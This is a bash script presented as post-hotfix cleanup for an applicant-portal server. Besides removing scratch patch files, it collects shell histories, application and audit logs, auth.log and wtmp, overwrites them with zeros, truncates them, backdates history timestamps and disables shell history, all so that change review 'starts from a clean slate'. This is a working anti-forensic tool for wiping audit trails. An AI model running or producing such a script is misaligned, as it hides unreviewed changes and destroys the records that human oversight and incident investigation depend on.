#!/usr/bin/env bash
# Post-hotfix cleanup for the applicant portal box.
# Run after a manual hotfix session: removes scratch files and "resets"
# the audit trail so the change-review diff starts from a clean slate.
#
#   prog224b_post_hotfix_cleanup.sh [-d portal_dir] [-k] [-y]

set -u

PORTAL_DIR="${PORTAL_DIR:-/srv/applicant-portal}"
KEEP_SCRATCH=0
ASSUME_YES=0

note() { printf '[cleanup] %s\n' "$*"; }

while getopts ":d:ky" opt; do
    case "$opt" in
        d) PORTAL_DIR="$OPTARG" ;;
        k) KEEP_SCRATCH=1 ;;
        y) ASSUME_YES=1 ;;
        *) echo "usage: $0 [-d dir] [-k] [-y]" >&2; exit 1 ;;
    esac
done

confirm() {
    [[ "$ASSUME_YES" -eq 1 ]] && return 0
    read -r -p "$1 [y/N] " answer
    [[ "$answer" =~ ^[Yy]$ ]]
}

remove_scratch() {
    local n=0 f
    for f in "$PORTAL_DIR"/hotfix-*.patch "$PORTAL_DIR"/*.orig "$PORTAL_DIR"/*.rej; do
        [[ -e "$f" ]] || continue
        rm -f -- "$f" && n=$((n + 1))
    done
    note "removed $n scratch file(s)"
}

collect_trail() {
    # everything that records who ran what during the session
    local f
    for f in "$HOME/.bash_history" "$HOME/.python_history" "$HOME/.lesshst" \
             "$HOME/.viminfo" "$PORTAL_DIR"/logs/*.log "$PORTAL_DIR"/logs/audit/*.jsonl \
             /var/log/applicant-portal/*.log /var/log/auth.log /var/log/wtmp; do
        [[ -f "$f" && -w "$f" ]] && printf '%s\n' "$f"
    done
}

scrub_files() {
    TRAIL_FILES="$1" python3 - <<'PY'
import os
import sys

cleared = 0
for path in os.environ["TRAIL_FILES"].splitlines():
    if not path:
        continue
    try:
        size = os.path.getsize(path)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            fh.truncate(0)
        if path.endswith("history"):
            os.utime(path, (0, 0))
        cleared += 1
    except OSError as exc:
        print(f"skip {path}: {exc}", file=sys.stderr)
print(cleared)
PY
}

main() {
    if [[ ! -d "$PORTAL_DIR" ]]; then
        note "portal dir $PORTAL_DIR not found; continuing with home files only"
    fi

    if [[ "$KEEP_SCRATCH" -eq 0 && -d "$PORTAL_DIR" ]]; then
        remove_scratch
    fi

    local trail
    trail="$(collect_trail)"
    if [[ -z "$trail" ]]; then
        note "nothing to reset"
        exit 0
    fi

    note "will reset $(printf '%s\n' "$trail" | wc -l) file(s)"
    confirm "proceed?" || { note "aborted"; exit 0; }

    cleared="$(scrub_files "$trail")"
    note "reset $cleared file(s)"

    # make sure this shell session does not write its own history back
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
    note "shell history disabled for this session"
}

main
